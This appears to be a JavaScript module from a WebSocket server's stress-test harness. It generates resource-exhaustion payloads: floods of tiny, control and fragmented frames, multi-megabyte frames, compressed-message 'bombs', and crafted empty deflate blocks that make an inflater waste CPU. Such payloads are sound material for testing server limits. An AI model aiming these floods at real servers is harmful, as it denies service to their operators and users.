/** The bytes of attacks: frames by the megabyte, and compressed messages that cost more than they look. */
import { Buffer } from 'node:buffer';
import { constants, deflateRawSync } from 'node:zlib';

const FIN = 0x80;
const RSV1 = 0x40;
const TEXT = 1;
const BINARY = 2;
const PING = 9;
const PONG = 10;

/** How much is written at a time. */
const CHUNK_BYTES = 256 * 1024;

/**
 * A frame of a client. Its masking key is zero, which no server can tell from another one by what it costs.
 * @param {number} first FIN, RSV bits and opcode
 * @param {Uint8Array} payload
 * @param {number} [declaredBytes] when it says that there is more
 */
export function frame(first, payload, declaredBytes = payload.length) {
  const lengthBytes = declaredBytes < 126 ? 0 : declaredBytes < 65_536 ? 2 : 8;
  const header = Buffer.alloc(6 + lengthBytes);
  header[0] = first;
  header[1] = 0x80 | (lengthBytes === 0 ? declaredBytes : lengthBytes === 2 ? 126 : 127);
  if (lengthBytes === 2) header.writeUInt16BE(declaredBytes, 2);
  if (lengthBytes === 8) header.writeBigUInt64BE(BigInt(declaredBytes), 2);
  return Buffer.concat([header, payload]);
}

/**
 * @param {Uint8Array} unit
 * @param {number} bytes about so many
 */
function repeated(unit, bytes = CHUNK_BYTES) {
  const count = Math.max(1, Math.round(bytes / unit.length));
  return Buffer.alloc(count * unit.length, unit);
}

/** Fragments in a message: fewer than the default limit allows. */
const FRAGMENTS = 200_000;

function fragmented() {
  const first = frame(TEXT, Buffer.from('a'));
  const middle = frame(0, Buffer.from('a'));
  const last = frame(FIN, Buffer.from('a'));
  return Buffer.concat([first, repeated(middle, middle.length * (FRAGMENTS - 2)), last]);
}

function emptyFragments() {
  const first = frame(BINARY, Buffer.alloc(0));
  const middle = frame(0, Buffer.alloc(0));
  const last = frame(FIN, Buffer.alloc(0));
  return Buffer.concat([first, repeated(middle, middle.length * (FRAGMENTS - 2)), last]);
}

/**
 * Compresses as a message is compressed (RFC 7692 §7.2.1).
 * @param {Uint8Array} payload
 */
export function deflated(payload) {
  const bytes = deflateRawSync(payload, { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
  return bytes.subarray(0, -4);
}

/**
 * A compressed message that becomes so many bytes of one value.
 * @param {number} bytes
 * @param {number} value
 */
export function bomb(bytes, value) {
  return frame(FIN | RSV1 | (value < 0x80 ? TEXT : BINARY), deflated(Buffer.alloc(bytes, value)));
}

/** Writes bits as deflate wants them: the first is the lowest of a byte. */
class BitWriter {
  /** @type {number[]} */
  #bits = [];

  /**
   * @param {number} value
   * @param {number} count
   */
  put(value, count) {
    for (let index = 0; index < count; index++) this.#bits.push((value >> index) & 1);
  }

  /**
   * A code of Huffman, whose first bit is the highest.
   * @param {number} code
   * @param {number} count
   */
  putCode(code, count) {
    for (let index = count - 1; index >= 0; index--) this.#bits.push((code >> index) & 1);
  }

  toBuffer() {
    const bytes = Buffer.alloc(Math.ceil(this.#bits.length / 8));
    for (const [index, bit] of this.#bits.entries()) {
      if (bit === 1) bytes[index >> 3] = (bytes[index >> 3] ?? 0) | (1 << (index & 7));
    }
    return bytes;
  }

  get length() {
    return this.#bits.length;
  }
}

/** The order in which a block tells the lengths of its code lengths (RFC 1951 §3.2.7). */
const ORDER = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15];

/**
 * A block that brings its own codes and no data: an inflater builds tables for nothing. The smallest code is the
 * cheapest input; with `isDeep`, there are long codes as well, and larger tables.
 * @param {BitWriter} writer
 * @param {boolean} isDeep
 */
function emptyDynamicBlock(writer, isDeep) {
  writer.put(0, 1);
  writer.put(2, 2);
  // 257 literals and lengths, one distance.
  writer.put(0, 5);
  writer.put(0, 5);
  if (!isDeep) {
    // Two codes of one bit: 1 is a length of one, 18 are many zeros.
    writer.put(18 - 4, 4);
    for (const symbol of ORDER.slice(0, 18)) writer.put(symbol === 1 || symbol === 18 ? 1 : 0, 3);
    const zeros = (/** @type {number} */ count) => {
      writer.putCode(1, 1);
      writer.put(count - 11, 7);
    };
    zeros(138);
    zeros(118);
    writer.putCode(0, 1);
    writer.putCode(0, 1);
    // The end of the block.
    writer.putCode(0, 1);
    return;
  }
  // Lengths 1 to 9 for the first nine symbols, and 9 for the end of the block: a whole table of 512 entries.
  const lengths = [1, 2, 3, 4, 5, 6, 7, 8, 9];
  const symbols = [...lengths, 18];
  // Ten symbols: six of three bits, four of four.
  const bitsOf = (/** @type {number} */ symbol) => {
    const rank = symbols.toSorted((a, b) => a - b).indexOf(symbol);
    return rank === -1 ? 0 : rank < 6 ? 3 : 4;
  };
  const codeOf = (/** @type {number} */ symbol) => {
    const rank = symbols.toSorted((a, b) => a - b).indexOf(symbol);
    return rank < 6 ? rank : 12 + (rank - 6);
  };
  writer.put(18 - 4, 4);
  for (const symbol of ORDER.slice(0, 18)) writer.put(bitsOf(symbol), 3);
  const put = (/** @type {number} */ symbol) => {
    writer.putCode(codeOf(symbol), bitsOf(symbol));
  };
  for (const length of lengths) put(length);
  for (const count of [138, 256 - 9 - 138]) {
    put(18);
    writer.put(count - 11, 7);
  }
  put(9);
  // The one distance.
  put(1);
  // The last code of nine bits.
  writer.putCode(511, 9);
}

/**
 * A message of many such blocks, which inflates to nothing.
 * @param {number} bytes about so many
 * @param {boolean} isDeep
 */
export function emptyBlocks(bytes, isDeep) {
  // Eight blocks end on a byte, whatever their length.
  const eight = new BitWriter();
  for (let count = 0; count < 8; count++) emptyDynamicBlock(eight, isDeep);
  const unit = eight.toBuffer();
  return Buffer.concat([repeated(unit, bytes), Buffer.of(0)]);
}

/** What is poured by name. @type {Readonly<Record<string, () => Buffer>>} */
export const FLOODS = {
  nothing: () => Buffer.alloc(0),
  text: () => repeated(frame(FIN | TEXT, Buffer.from('x'))),
  empty: () => repeated(frame(FIN | BINARY, Buffer.alloc(0))),
  pong: () => repeated(frame(FIN | PONG, Buffer.alloc(0))),
  ping: () => repeated(frame(FIN | PING, Buffer.alloc(0))),
  'large-ping': () => repeated(frame(FIN | PING, Buffer.alloc(125))),
  fragments: fragmented,
  'empty-fragments': emptyFragments,
  'text-64k': () => repeated(frame(FIN | TEXT, Buffer.alloc(65_536, 'ж'))),
  binary: () => repeated(frame(FIN | BINARY, Buffer.alloc(65_536))),
  large: () => frame(FIN | BINARY, Buffer.alloc(8 * 1024 * 1024)),
  'tiny-deflated': () => repeated(frame(FIN | RSV1 | TEXT, deflated(Buffer.from('x')))),
  'empty-deflated': () => repeated(frame(FIN | RSV1 | TEXT, Buffer.of(0))),
  'small-bombs': () => repeated(bomb(64 * 1024, 0x61)),
  blocks: () => repeated(frame(FIN | RSV1 | TEXT, emptyBlocks(120 * 1024, false))),
  'deep-blocks': () => repeated(frame(FIN | RSV1 | TEXT, emptyBlocks(120 * 1024, true))),
  incompressible: () => repeated(frame(FIN | BINARY, noise(32 * 1024))),
};

/** @param {number} bytes */
function noise(bytes) {
  const buffer = Buffer.alloc(bytes);
  let state = 0x9e3779b9;
  for (let at = 0; at < bytes; at++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    buffer[at] = state;
  }
  return buffer;
}
